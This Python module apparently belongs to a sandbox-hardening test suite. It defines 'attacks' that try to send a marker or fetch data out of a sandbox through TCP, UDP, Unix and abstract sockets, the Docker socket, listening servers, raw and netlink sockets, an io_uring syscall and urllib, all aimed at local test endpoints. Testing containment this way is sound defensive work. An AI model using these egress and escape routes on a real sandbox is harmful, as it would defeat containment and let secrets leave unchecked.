"""Ways out: everything that could carry an answer in or a secret out."""

from __future__ import annotations

from .attack import Handed, Place, attack, code

CALLS = code("""
    import socket
    def call(*to, family, kind=socket.SOCK_STREAM):
        try:
            line = socket.socket(family, kind)
            line.settimeout(2)
            line.connect(*to)
            line.send(MARK.encode())
        except OSError: pass
""")


@attack("tcp", "A connection to a server is made.", quick=True)
def _(n: Handed, at: Place) -> None:
    n.put(
        count=at.known()
        + CALLS
        + code("""
            call(('127.0.0.1', TCP), family=socket.AF_INET)
            call(('::ffff:127.0.0.1', TCP), family=socket.AF_INET6)
            count = 19
        """)
    )


@attack("udp", "A datagram is sent.")
def _(n: Handed, at: Place) -> None:
    n.put(
        count=at.known() + CALLS + "call(('127.0.0.1', UDP), family=socket.AF_INET, kind=socket.SOCK_DGRAM)\ncount = 19"
    )


@attack("unix", "A server's Unix socket is connected to, as Docker's would be.")
def _(n: Handed, at: Place) -> None:
    n.put(
        count=at.known()
        + CALLS
        + code("""
            call(UNIX, family=socket.AF_UNIX)
            call('/var/run/docker.sock', family=socket.AF_UNIX)
            count = 19
        """)
    )


@attack("abstract", "A socket that has a name and no file is connected to.")
def _(n: Handed, at: Place) -> None:
    n.put(count=at.known() + CALLS + "call('\\0' + ABSTRACT, family=socket.AF_UNIX)\ncount = 19")


@attack("server", "It waits for callers itself.")
def _(n: Handed, at: Place) -> None:
    n.put(
        count=at.known()
        + code(r"""
            import socket
            count = 19
            for family, place in ((socket.AF_INET, ('127.0.0.1', 0)), (socket.AF_UNIX, '\0' + MARK)):
                try:
                    server = socket.socket(family)
                    server.bind(place)
                    server.listen()
                    boast('listens')
                except OSError: pass
        """)
    )


@attack("other-sockets", "Raw, packet and netlink sockets, and calls that make sockets without the usual call.")
def _(n: Handed, at: Place) -> None:
    n.put(
        count=at.known()
        + CALLS
        + code("""
            import ctypes
            count = 19
            libc = ctypes.CDLL(None, use_errno=True)
            for name, kind in (('NETLINK', 'RAW'), ('VSOCK', 'STREAM'), ('ALG', 'SEQPACKET'), ('PACKET', 'RAW')):
                family, kind = getattr(socket, f'AF_{name}'), getattr(socket, f'SOCK_{kind}')
                try: socket.socket(family, kind); boast('made a socket')
                except OSError: pass
            if libc.syscall(425, 8, ctypes.create_string_buffer(120)) >= 0: boast('made a ring')
        """)
    )


@attack("download", "Modules and data are fetched: pip, urllib.")
def _(n: Handed, at: Place) -> None:
    n.put(
        count=at.known()
        + code("""
            import urllib.request
            count = 19
            try: urllib.request.urlopen(f'http://127.0.0.1:{TCP}/{MARK}', timeout=2)
            except Exception: pass
        """)
    )
